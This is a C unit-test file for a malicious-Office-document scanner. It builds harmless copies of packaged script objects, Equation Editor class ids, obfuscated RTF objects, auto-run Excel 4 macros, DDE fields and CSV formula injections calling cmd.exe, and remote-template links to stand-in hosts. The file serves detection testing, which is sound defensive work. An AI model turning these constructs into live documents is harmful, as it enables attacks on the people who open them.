/* Constructs of real malicious documents, generated with harmless content: packaged files
 * (Ole10Native), exploit class ids in .doc and OOXML, RTF objects written the way exploit
 * builders obfuscate them, Excel 5.0/95 and SYLK macros, remote templates and frames, DDE in
 * .doc, 2003 XML, CSV and .xlsb, and the workbook constructs that must stay quiet. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office/office_int.h"
#include "office_fixtures.h"
#include "office_realfx.h"
#include "scan/detect.h"

#include <stdio.h>
#include <zlib.h>
#include <stdlib.h>
#include <string.h>

#define EQUATION3 "0002CE02-0000-0000-C000-000000000046"
#define STDOLELINK "00000300-0000-0000-C000-000000000046"
#define EXCEL_SHEET "00020820-0000-0000-C000-000000000046"

static const char JS[] = "WScript.Echo(\"harmless test\");\r\n";

static eg_report *scan(const char *name, const void *d, size_t n)
{
    eg_report *r = eg_fx_scan(name, d, n, NULL, 0);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    return r;
}

/* ---------------- Ole10Native ---------------- */

static void test_ole10native_layout(void **state)
{
    (void)state;
    eg_buf b;
    eg_buf_init(&b, 0);
    const char *label = "invoice.js", *src = "C:\\Users\\u\\Desktop\\invoice.js",
               *tmp = "C:\\Users\\u\\AppData\\Local\\Temp\\invoice.js";
    eg_fx_ole10native(label, src, tmp, (const uint8_t *)JS, strlen(JS), true, &b);
    size_t tail = 12 + 2 * (strlen(label) + strlen(src) + strlen(tmp)); /* the UTF-16 copies */
    eg_ole10native o;
    assert_int_equal(eg_ole10native_parse(b.data, b.len, &o), EG_OK);
    assert_false(o.linked);
    assert_false(o.truncated);
    assert_int_equal(o.kind, 0x00030000);
    assert_int_equal(o.label_len, 10);
    assert_memory_equal(o.label, "invoice.js", 10);
    assert_int_equal(o.data_len, strlen(JS));
    assert_memory_equal(o.data, JS, strlen(JS));
    /* cut inside the data: what is there, marked as cut short */
    assert_int_equal(eg_ole10native_parse(b.data, b.len - tail - strlen(JS) / 2, &o), EG_OK);
    assert_true(o.truncated);
    assert_true(o.data_len < strlen(JS));
    /* cut inside the header */
    assert_int_equal(eg_ole10native_parse(b.data, 5, &o), EG_EFORMAT);
    for (size_t n = 0; n < b.len; n++) /* every prefix parses or fails cleanly */
        eg_ole10native_parse(b.data, n, &o);
    eg_buf_free(&b);
}

static void test_doc_package_payload(void **state)
{
    (void)state;
    eg_buf nat;
    eg_buf_init(&nat, 0);
    eg_fx_ole10native("invoice.js", "C:\\Users\\u\\Desktop\\invoice.js", "C:\\Temp\\invoice.js",
                      (const uint8_t *)JS, strlen(JS), true, &nat);
    static const uint8_t word[128] = {0xEC, 0xA5};
    eg_fx_stream st[] = {{"WordDocument", word, sizeof word},
                         {"ObjectPool/_1573545115/\001Ole10Native", nat.data, nat.len}};
    uint8_t *doc;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 2, &doc, &len), EG_OK);
    eg_report *r = scan("order.doc", doc, len);
    assert_true(eg_fx_finding_with(r, "OFFICE.EMBEDDED_OBJECT", "embedded file \"invoice.js\""));
    assert_false(eg_fx_finding_with(r, "OFFICE.EMBEDDED_OBJECT", "unreadable"));
    assert_true(eg_report_has_rule(r, "OFFICE.EMBEDDED_EXECUTABLE"));
    assert_true(strstr(eg_fx_captured(EG_T_SCRIPT), "harmless test") != NULL);
    assert_true(eg_report_verdict(r) >= EG_VERDICT_SUSPICIOUS);
    eg_report_free(r);
    free(doc);
    eg_buf_free(&nat);
}

/* ---------------- exploit class ids ---------------- */

static uint8_t *clsid_cfb(const char *storage, const char *clsid, size_t *len)
{
    static const uint8_t native[64] = {0x1C, 0x00, 0x00,
                                       0x00, 0x02, 0x00}; /* an equation header stand-in */
    const char *names[] = {"Equation Native"};
    const uint8_t *data[] = {native};
    size_t lens[] = {sizeof native};
    uint8_t *out;
    assert_int_equal(eg_fx_cfb_clsid(storage, clsid, names, data, lens, 1, &out, len), EG_OK);
    return out;
}

static void test_doc_exploit_clsid(void **state)
{
    (void)state;
    size_t len;
    uint8_t *doc = clsid_cfb("ObjectPool/_1", EQUATION3, &len);
    eg_report *r = scan("report.doc", doc, len);
    assert_true(eg_fx_finding_with(r, "OFFICE.EXPLOIT_CLSID", EQUATION3));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(doc);
    /* an embedded Excel sheet is not an exploit class */
    doc = clsid_cfb("ObjectPool/_1", EXCEL_SHEET, &len);
    r = scan("report.doc", doc, len);
    assert_false(eg_report_has_rule(r, "OFFICE.EXPLOIT_CLSID"));
    eg_report_free(r);
    free(doc);
}

static const char CT_DOCX[] =
    "<?xml version=\"1.0\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"rels\" "
    "ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
    "<Default Extension=\"bin\" "
    "ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>"
    "<Override PartName=\"/word/document.xml\" "
    "ContentType=\"application/"
    "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";
static const char DOC_XML[] =
    "<?xml version=\"1.0\"?><w:document "
    "xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
    "<w:body><w:p><w:r><w:t>Quarterly figures</w:t></w:r></w:p></w:body></w:document>";

static eg_report *scan_parts(const char *name, const eg_fx_part *p, size_t n)
{
    uint8_t *z;
    size_t len;
    assert_int_equal(eg_fx_zip_stored(p, n, &z, &len), EG_OK);
    eg_report *r = scan(name, z, len);
    free(z);
    return r;
}

static void test_ooxml_exploit_clsid(void **state)
{
    (void)state;
    size_t len;
    uint8_t *bin = clsid_cfb(NULL, EQUATION3, &len);
    eg_fx_part p[] = {{"[Content_Types].xml", CT_DOCX, 0},
                      {"word/document.xml", DOC_XML, 0},
                      {"word/embeddings/oleObject1.bin", (const char *)bin, len}};
    eg_report *r = scan_parts("report.docx", p, 3);
    assert_true(eg_fx_finding_with(r, "OFFICE.EXPLOIT_CLSID", EQUATION3));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(bin);
}

/* ---------------- RTF ---------------- */

typedef struct got {
    eg_buf data;
    char cls[128];
    size_t anomalies, n;
} got;

static void on_obj(void *ud, const uint8_t *d, size_t len, const char *cls, size_t anomalies)
{
    got *g = ud;
    g->n++;
    eg_buf_append(&g->data, d, len);
    snprintf(g->cls, sizeof g->cls, "%s", cls);
    g->anomalies = anomalies;
}

static void test_rtf_word_decoding(void **state)
{
    (void)state;
    uint8_t payload[300];
    for (size_t i = 0; i < sizeof payload; i++)
        payload[i] =
            (uint8_t)(i * 37 + 11); /* every byte value class, braces and backslashes too */
    eg_buf ole;
    eg_buf_init(&ole, 0);
    eg_fx_ole1("Equation.3", payload, sizeof payload, &ole);
    for (int style = EG_FX_RTF_PLAIN; style <= EG_FX_RTF_OBFUSCATED; style++) {
        size_t n;
        char *rtf = eg_fx_rtf_object("Equation.3", ole.data, ole.len, (eg_fx_rtf_style)style, &n);
        got g = {0};
        eg_buf_init(&g.data, 0);
        eg_rtf_stats st;
        assert_int_equal(eg_rtf_objects((const uint8_t *)rtf, n, 1u << 20, on_obj, &g, &st), EG_OK);
        assert_int_equal(g.n, 1);
        assert_int_equal(g.data.len, ole.len);
        assert_memory_equal(g.data.data, ole.data, ole.len);
        assert_string_equal(g.cls, "Equation.3");
        if (style == EG_FX_RTF_PLAIN)
            assert_int_equal(g.anomalies, 0);
        else
            assert_true(g.anomalies > 0);
        eg_buf_free(&g.data);
        free(rtf);
    }
    eg_buf_free(&ole);
}

static void test_rtf_exploit_classes(void **state)
{
    (void)state;
    /* Equation Editor, class name in odd case, obfuscated hex */
    uint8_t eq[40] = {0x1C, 0, 0, 0, 2, 0};
    eg_buf ole;
    eg_buf_init(&ole, 0);
    eg_fx_ole1("eQuATiOn.3", eq, sizeof eq, &ole);
    size_t n;
    char *rtf = eg_fx_rtf_object("eQuATiOn.3", ole.data, ole.len, EG_FX_RTF_OBFUSCATED, &n);
    eg_report *r = scan("scan.doc", rtf, n);
    assert_true(eg_report_has_rule(r, "RTF.EXPLOIT_CLASS"));
    assert_true(eg_report_has_rule(r, "RTF.OBFUSCATED_OBJECT"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(rtf);
    /* OLE2Link whose native data is a CFB of class StdOleLink; only the \objclass names it */
    size_t cl;
    uint8_t *cfb = clsid_cfb(NULL, STDOLELINK, &cl);
    ole.len = 0;
    eg_fx_ole1("oLe2LInk", cfb, cl, &ole);
    rtf = eg_fx_rtf_object(NULL, ole.data, ole.len, EG_FX_RTF_PLAIN, &n);
    r = scan("scan.rtf", rtf, n);
    assert_true(eg_fx_finding_with(r, "RTF.EXPLOIT_CLASS", "oLe2LInk"));
    assert_true(eg_fx_finding_with(r, "OFFICE.EXPLOIT_CLSID", STDOLELINK));
    assert_false(eg_report_has_rule(r, "RTF.OBFUSCATED_OBJECT"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(rtf);
    free(cfb);
    eg_buf_free(&ole);
}

static void test_rtf_package(void **state)
{
    (void)state;
    eg_buf nat, ole;
    eg_buf_init(&nat, 0);
    eg_buf_init(&ole, 0);
    eg_fx_ole10native("invoice.js", "C:\\a\\invoice.js", "C:\\Temp\\invoice.js",
                      (const uint8_t *)JS, strlen(JS), false, &nat);
    eg_fx_ole1("Package", nat.data, nat.len, &ole);
    size_t n;
    char *rtf = eg_fx_rtf_object("Package", ole.data, ole.len, EG_FX_RTF_PLAIN, &n);
    eg_report *r = scan("notice.rtf", rtf, n);
    assert_true(eg_fx_finding_with(r, "OFFICE.EMBEDDED_OBJECT", "invoice.js"));
    assert_true(eg_report_has_rule(r, "OFFICE.EMBEDDED_EXECUTABLE"));
    assert_true(strstr(eg_fx_captured(EG_T_SCRIPT), "harmless test") != NULL);
    eg_report_free(r);
    free(rtf);
    eg_buf_free(&nat);
    eg_buf_free(&ole);
}

static void test_rtf_deep_nesting(void **state)
{
    (void)state;
    size_t depth = 200000;
    eg_buf b;
    eg_buf_init(&b, 0);
    eg_buf_puts(&b, "{\\rtf1");
    for (size_t i = 0; i < depth; i++)
        eg_buf_puts(&b, i % 3 ? "{" : "{\\*\\x ");
    eg_buf_puts(&b, "{\\object{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000}}");
    for (size_t i = 0; i < depth; i++)
        eg_buf_putc(&b, '}');
    eg_buf_putc(&b, '}');
    eg_report *r = scan("deep.rtf", b.data, b.len);
    assert_true(eg_report_has_rule(r, "LIMIT.DEPTH"));
    assert_true(eg_report_verdict(r) >= EG_VERDICT_SUSPICIOUS);
    eg_report_free(r);
    eg_buf_free(&b);
}

/* ---------------- BIFF5 and SYLK ---------------- */

static void test_biff5_macro(void **state)
{
    (void)state;
    eg_buf wb;
    eg_buf_init(&wb, 0);
    eg_fx_biff5_workbook("calc.exe", 2, &wb);
    eg_buf out;
    eg_buf_init(&out, 1u << 20);
    unsigned flags;
    assert_int_equal(eg_biff8_read(wb.data, wb.len, &out, &flags), EG_OK);
    eg_buf_putc(&out, 0);
    const char *t = (const char *)out.data;
    assert_non_null(strstr(t, "' sheet \"Macro1\" type=macro state=veryHidden"));
    assert_non_null(strstr(t, "Macro1!A1: =EXEC(\"calc.exe\")"));
    assert_non_null(strstr(t, "Macro1!A2: =HALT()"));
    assert_non_null(strstr(t, "' name \"Auto_Open\" builtin = "));
    assert_true(flags & EG_XLM_F_AUTO_OPEN);
    eg_buf_free(&out);
    eg_fx_stream st[] = {{"Book", wb.data, wb.len}};
    uint8_t *xls;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 1, &xls, &len), EG_OK);
    eg_report *r = scan("invoice.xls", xls, len);
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_true(eg_report_has_rule(r, "XLM.VERY_HIDDEN_SHEET"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(xls);
    eg_buf_free(&wb);
}

static const char SLK_MACRO[] =
    "ID;PWXL;N;E\r\nP;PGeneral\r\nB;Y2;X1;D0 0 1 0\r\nO;L;E;D;V0;K47;G100 0.001\r\n"
    "NN;NAuto_open;ER1C1\r\n"
    "C;Y1;X1;K0;EEXEC(\"cmd /c echo harmless\")\r\nC;Y2;K0;EHALT()\r\nE\r\n";
static const char SLK_PLAIN[] =
    "ID;PWXL;N;E\rC;Y1;X1;K\"Total;;net\"\rC;X2;K42\rC;Y2;X2;K84;ESUM(R[-1]C)\rE\r";

static void test_sylk(void **state)
{
    (void)state;
    const char *detail = NULL;
    assert_int_equal(
        eg_detect_type((const uint8_t *)SLK_MACRO, strlen(SLK_MACRO), "a.slk", &detail), EG_T_SYLK);
    eg_buf out;
    eg_buf_init(&out, 1u << 20);
    unsigned flags;
    assert_int_equal(eg_sylk_read((const uint8_t *)SLK_MACRO, strlen(SLK_MACRO), "a", &out, &flags),
                     EG_OK);
    eg_buf_putc(&out, 0);
    assert_non_null(strstr((char *)out.data, "' name \"Auto_open\" = a!$A$1"));
    assert_non_null(strstr((char *)out.data, "a!A1: =EXEC(\"cmd /c echo harmless\")"));
    assert_non_null(strstr((char *)out.data, "a!A2: =HALT()"));
    assert_true(flags & EG_XLM_F_MACROSHEET);
    eg_buf_free(&out);
    eg_report *r = scan("invoice.slk", SLK_MACRO, strlen(SLK_MACRO));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN"));
    assert_true(eg_report_has_rule(r, "XLM.EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    /* an ordinary SYLK sheet (CR line ends, escaped ';') is clean */
    eg_buf_init(&out, 1u << 20);
    assert_int_equal(eg_sylk_read((const uint8_t *)SLK_PLAIN, strlen(SLK_PLAIN), "s", &out, &flags),
                     EG_OK);
    eg_buf_putc(&out, 0);
    assert_false(flags & EG_XLM_F_MACROSHEET);
    assert_non_null(strstr((char *)out.data, "s!A1: \"Total;net\""));
    eg_buf_free(&out);
    r = scan("figures.slk", SLK_PLAIN, strlen(SLK_PLAIN));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    /* a DDE formula in a SYLK cell (no macro sheet needed) */
    static const char slk_dde[] = "ID;PWXL;N;E\nC;Y1;X1;K0;ECMD|' /C echo harmless'!A0\nE\n";
    r = scan("data.slk", slk_dde, strlen(slk_dde));
    assert_true(eg_report_has_rule(r, "OFFICE.DDE_EXEC"));
    eg_report_free(r);
}

/* ---------------- remote templates, frames, links ---------------- */

static eg_report *docx_with_rels(const char *relpart, const char *type, const char *target)
{
    char rels[1024];
    snprintf(rels, sizeof rels,
             "<?xml version=\"1.0\"?><Relationships "
             "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
             "<Relationship Id=\"rId1\" "
             "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s\" "
             "Target=\"%s\" TargetMode=\"External\"/></Relationships>",
             type, target);
    eg_fx_part p[] = {
        {"[Content_Types].xml", CT_DOCX, 0}, {"word/document.xml", DOC_XML, 0}, {relpart, rels, 0}};
    return scan_parts("letter.docx", p, 3);
}

static void test_remote_template_and_frames(void **state)
{
    (void)state;
    eg_report *r = docx_with_rels("word/_rels/settings.xml.rels", "attachedTemplate",
                                  "http://example.invalid/t.dotm");
    assert_true(eg_report_has_rule(r, "OOXML.REMOTE_TEMPLATE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    r = docx_with_rels("word/_rels/settings.xml.rels", "attachedTemplate",
                       "\\\\198.51.100.7\\share\\t.dotm");
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    /* the template on the author's own disk is what every ordinary document names */
    r = docx_with_rels("word/_rels/settings.xml.rels", "attachedTemplate",
                       "file:///C:\\Users\\u\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm");
    assert_false(eg_report_has_rule(r, "OOXML.REMOTE_TEMPLATE"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    r = docx_with_rels("word/_rels/webSettings.xml.rels", "frame",
                       "https://example.invalid/a/b.rtf");
    assert_true(eg_fx_finding_with(r, "OOXML.REMOTE_TEMPLATE", "frame loads"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    r = docx_with_rels("word/_rels/document.xml.rels", "oleObject", "file://198.51.100.7/s/x.sct");
    assert_true(eg_fx_finding_with(r, "OOXML.REMOTE_TEMPLATE", "oleObject loads"));
    eg_report_free(r);
    r = docx_with_rels("word/_rels/document.xml.rels", "oleObject", "http://example.invalid/data");
    assert_true(eg_report_has_rule(r, "OOXML.EXTERNAL_OBJECT"));
    assert_false(eg_report_has_rule(r, "OOXML.REMOTE_TEMPLATE"));
    eg_report_free(r);
}

static const char CT_XLSX[] =
    "<?xml version=\"1.0\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>"
    "<Override PartName=\"/xl/workbook.xml\" "
    "ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml\"/></"
    "Types>";
static const char CT_XLSB[] =
    "<?xml version=\"1.0\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Override PartName=\"/xl/workbook.bin\" "
    "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>";
static const char WB_XML[] =
    "<?xml version=\"1.0\"?><workbook "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheets/></workbook>";

static eg_report *xlsx_link(const char *target)
{
    char rels[1024];
    snprintf(rels, sizeof rels,
             "<?xml version=\"1.0\"?><Relationships "
             "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
             "<Relationship Id=\"rId1\" "
             "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
             "externalLinkPath\" "
             "Target=\"%s\" TargetMode=\"External\"/></Relationships>",
             target);
    eg_fx_part p[] = {{"[Content_Types].xml", CT_XLSX, 0},
                      {"xl/workbook.xml", WB_XML, 0},
                      {"xl/externalLinks/_rels/externalLink1.xml.rels", rels, 0}};
    return scan_parts("budget.xlsx", p, 3);
}

static void test_workbook_false_positives(void **state)
{
    (void)state;
    eg_report *r = xlsx_link("file:///C:\\Finance\\2026\\plan.xls");
    assert_false(eg_report_has_rule(r, "OOXML.EXTERNAL_OBJECT"));
    /* a stray Default entry for .bin is no macro content type */
    assert_false(eg_report_has_rule(r, "OOXML.MACRO_ENABLED"));
    assert_false(eg_report_has_rule(r, "OOXML.MACRO_RENAMED"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    r = xlsx_link("\\\\fileserver\\share\\plan.xls");
    assert_false(eg_report_has_rule(r, "OOXML.EXTERNAL_OBJECT"));
    eg_report_free(r);
    r = xlsx_link("https://example.invalid/plan.xls");
    assert_true(eg_report_has_rule(r, "OOXML.EXTERNAL_OBJECT"));
    eg_report_free(r);
    /* every .xlsb names the binary.macroEnabled main type */
    eg_fx_part p[] = {{"[Content_Types].xml", CT_XLSB, 0}};
    r = scan_parts("figures.xlsb", p, 1);
    assert_false(eg_report_has_rule(r, "OOXML.MACRO_ENABLED"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_CLEAN);
    eg_report_free(r);
    /* the cell index Excel writes beside a sheet part is not a macro sheet of its own */
    static const uint8_t idx[16] = {0x80, 0x04, 0x04, 0, 0, 0, 0};
    eg_fx_part q[] = {{"[Content_Types].xml", CT_XLSB, 0},
                      {"xl/macrosheets/binaryIndex1.bin", (const char *)idx, 16}};
    r = scan_parts("figures.xlsb", q, 2);
    assert_false(eg_report_has_rule(r, "XLM.MACRO_SHEET"));
    eg_report_free(r);
}

/* ---------------- DDE ---------------- */

static void test_dde_doc_fields(void **state)
{
    (void)state;
    const char *field =
        "\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo harmless\" \x14\x15";
    for (int w = 0; w < 2; w++) {
        eg_buf wd;
        eg_buf_init(&wd, 0);
        for (int i = 0; i < 0x600; i++)
            eg_buf_putc(&wd, 0);
        wd.data[0] = 0xEC, wd.data[1] = 0xA5;
        for (const char *p = "Dear customer, "; *p; p++) {
            eg_buf_putc(&wd, (uint8_t)*p);
            if (w)
                eg_buf_putc(&wd, 0);
        }
        for (const char *p = field; *p; p++) {
            eg_buf_putc(&wd, (uint8_t)*p);
            if (w)
                eg_buf_putc(&wd, 0);
        }
        eg_fx_stream st[] = {{"WordDocument", wd.data, wd.len}};
        uint8_t *doc;
        size_t len;
        assert_int_equal(eg_fx_cfb(st, 1, &doc, &len), EG_OK);
        eg_report *r = scan("letter.doc", doc, len);
        assert_true(eg_fx_finding_with(r, "OFFICE.DDE", "DDEAUTO"));
        assert_true(eg_report_has_rule(r, "OFFICE.DDE_EXEC"));
        assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
        eg_report_free(r);
        free(doc);
        eg_buf_free(&wd);
    }
}

static void test_dde_text_formats(void **state)
{
    (void)state;
    static const char *const dde[] = {
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument "
        "xmlns:w=\"http://schemas.microsoft.com/office/word/2003/"
        "wordml\"><w:body><w:p><w:r><w:fldChar "
        "w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDEAUTO "
        "c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo "
        "x\"</w:instrText></w:r></w:p></w:body></w:wordDocument>",
        "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument "
        "xmlns:w=\"http://schemas.microsoft.com/office/word/2003/"
        "wordml\"><w:body><w:p><w:fldSimple w:instr=\" DDE "
        "cmd.exe &quot;/c echo x&quot;\"/></w:p></w:body></w:wordDocument>",
        "<?xml version=\"1.0\"?><?mso-application progid=\"Excel.Sheet\"?><Workbook "
        "xmlns=\"urn:schemas-microsoft-com:office:spreadsheet\" "
        "xmlns:ss=\"urn:schemas-microsoft-com:office:spreadsheet\">"
        "<Worksheet ss:Name=\"S\"><Table><Row><Cell ss:Formula=\"=cmd|'/c echo x'!A1\"><Data "
        "ss:Type=\"Error\">#REF!</Data></Cell></Row></Table></Worksheet></Workbook>",
        "name,amount\r\nx,=cmd|' /c echo harmless'!A1\r\n",
        "a,b\r\n+cmd|' /c echo x'!A0\r\n",
        "a,b\r\n-2+3+cmd|' /c echo x'!A0\r\n",
        "a,b\r\n@SUM(cmd|'/c echo x'!A0)\r\n",
    };
    static const char *const names[] = {"a.xml", "b.xml", "c.xml", "d.csv",
                                        "e.csv", "f.csv", "g.csv"};
    for (size_t i = 0; i < sizeof dde / sizeof *dde; i++) {
        eg_report *r = scan(names[i], dde[i], strlen(dde[i]));
        if (!eg_report_has_rule(r, "OFFICE.DDE") || !eg_report_has_rule(r, "OFFICE.DDE_EXEC"))
            fail_msg("no DDE finding in %s", names[i]);
        eg_report_free(r);
    }
    /* pipes in ordinary text are not DDE */
    static const char plain[] = "cmd,desc\r\nls | wc,'count lines'!\r\na|b,\"x\"\r\n";
    eg_report *r = scan("ok.csv", plain, strlen(plain));
    assert_false(eg_report_has_rule(r, "OFFICE.DDE"));
    eg_report_free(r);
}

static uint8_t *xlsb_supbook(const char *app, const char *topic, size_t *len)
{
    eg_buf sup, bin;
    eg_buf_init(&sup, 0);
    eg_buf_init(&bin, 0);
    uint8_t h[2] = {1, 0}; /* sbt: DDE */
    eg_buf_append(&sup, h, 2);
    const char *s[] = {app, topic};
    for (int k = 0; k < 2; k++) {
        uint32_t n = (uint32_t)strlen(s[k]);
        eg_buf_append(&sup, &n, 4);
        for (const char *p = s[k]; *p; p++) {
            uint8_t u[2] = {(uint8_t)*p, 0};
            eg_buf_append(&sup, u, 2);
        }
    }
    eg_fx_b12_record(&bin, 0x168, sup.data, sup.len);
    eg_buf_free(&sup);
    *len = bin.len;
    return bin.data;
}

static void test_dde_xlsb_link(void **state)
{
    (void)state;
    size_t n;
    uint8_t *bin = xlsb_supbook("cmd", "/c echo harmless", &n);
    eg_fx_part p[] = {{"[Content_Types].xml", CT_XLSB, 0},
                      {"xl/externalLinks/externalLink1.bin", (const char *)bin, n}};
    eg_report *r = scan_parts("figures.xlsb", p, 2);
    assert_true(eg_fx_finding_with(r, "OFFICE.DDE", "cmd|/c echo harmless"));
    assert_true(eg_report_has_rule(r, "OFFICE.DDE_EXEC"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(bin);
    /* a market-data feed is a DDE link too, but runs no program */
    bin = xlsb_supbook("IDT", "IMKB", &n);
    p[1].data = (const char *)bin, p[1].len = n;
    r = scan_parts("quotes.xlsb", p, 2);
    assert_true(eg_report_has_rule(r, "OFFICE.DDE"));
    assert_false(eg_report_has_rule(r, "OFFICE.DDE_EXEC"));
    assert_int_not_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(bin);
}

/* PowerPoint keeps ExOleObjStg streams whose zlib data stops before the end of the stream: what
 * was inflated is kept; a corrupt stream is still refused. */
static void test_inflate_cut_stream(void **state)
{
    (void)state;
    uint8_t plain[4000], z[8000];
    for (size_t i = 0; i < sizeof plain; i++)
        plain[i] = (uint8_t)("Attribute VB_Name = \"Module1\"\r\n"[i % 32]);
    uLongf zl = sizeof z;
    assert_int_equal(compress(z, &zl, plain, sizeof plain), Z_OK);
    uint8_t *out;
    size_t n;
    assert_int_equal(eg_office_inflate(z, zl - 4, 1u << 20, &out, &n), EG_OK); /* no Adler-32 */
    assert_int_equal(n, sizeof plain);
    assert_memory_equal(out, plain, n);
    free(out);
    z[zl / 2] ^= 0xFF;
    z[zl / 2 + 1] ^= 0x55;
    eg_status st = eg_office_inflate(z, zl, 1u << 20, &out, &n);
    if (st == EG_OK) { /* a flip may still decode: then it must not be the original */
        assert_true(n != sizeof plain || memcmp(out, plain, n) != 0);
        free(out);
    }
}

/* A module named in the project's code page (CP1251 "Модуль1"): libgsf names the stream in UTF-8.
 */
static void test_vba_module_codepage_name(void **state)
{
    (void)state;
    static const char cp1251[] = "\xCC\xEE\xE4\xF3\xEB\xFC"
                                 "1",
                      utf8[] = "\xD0\x9C\xD0\xBE\xD0\xB4\xD1\x83\xD0\xBB\xD1\x8C"
                               "1";
    static const char src[] =
        "Attribute VB_Name = \"x\"\r\nSub AutoOpen()\r\nMsgBox \"harmless\"\r\nEnd Sub\r\n";
    eg_fx_module m = {cp1251, src, false, NULL};
    eg_buf dir, cdir, mod;
    eg_buf_init(&dir, 0);
    eg_buf_init(&cdir, 0);
    eg_buf_init(&mod, 0);
    assert_int_equal(eg_fx_vba_dir(&m, 1, 1251, &dir), EG_OK);
    eg_fx_ovba_compress(dir.data, dir.len, &cdir);
    eg_fx_ovba_compress((const uint8_t *)src, strlen(src), &mod);
    static const uint8_t vbaproj[7] = {0xCC, 0x61, 0xFF, 0xFF, 0x00, 0x03, 0x00};
    char path[64];
    snprintf(path, sizeof path, "VBA/%s", utf8);
    eg_fx_stream st[] = {{"VBA/dir", cdir.data, cdir.len},
                         {"VBA/_VBA_PROJECT", vbaproj, sizeof vbaproj},
                         {path, mod.data, mod.len}};
    uint8_t *bin;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 3, &bin, &len), EG_OK);
    eg_report *r = scan("vbaProject.bin", bin, len);
    assert_false(eg_report_has_rule(r, "PARSE.ERROR"));
    assert_non_null(strstr(eg_fx_captured(EG_T_VBA_SOURCE), "harmless"));
    eg_report_free(r);
    free(bin);
    eg_buf_free(&dir);
    eg_buf_free(&cdir);
    eg_buf_free(&mod);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_ole10native_layout),
        cmocka_unit_test(test_doc_package_payload),
        cmocka_unit_test(test_doc_exploit_clsid),
        cmocka_unit_test(test_ooxml_exploit_clsid),
        cmocka_unit_test(test_rtf_word_decoding),
        cmocka_unit_test(test_rtf_exploit_classes),
        cmocka_unit_test(test_rtf_package),
        cmocka_unit_test(test_rtf_deep_nesting),
        cmocka_unit_test(test_biff5_macro),
        cmocka_unit_test(test_sylk),
        cmocka_unit_test(test_remote_template_and_frames),
        cmocka_unit_test(test_workbook_false_positives),
        cmocka_unit_test(test_dde_doc_fields),
        cmocka_unit_test(test_dde_text_formats),
        cmocka_unit_test(test_dde_xlsb_link),
        cmocka_unit_test(test_inflate_cut_stream),
        cmocka_unit_test(test_vba_module_codepage_name),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
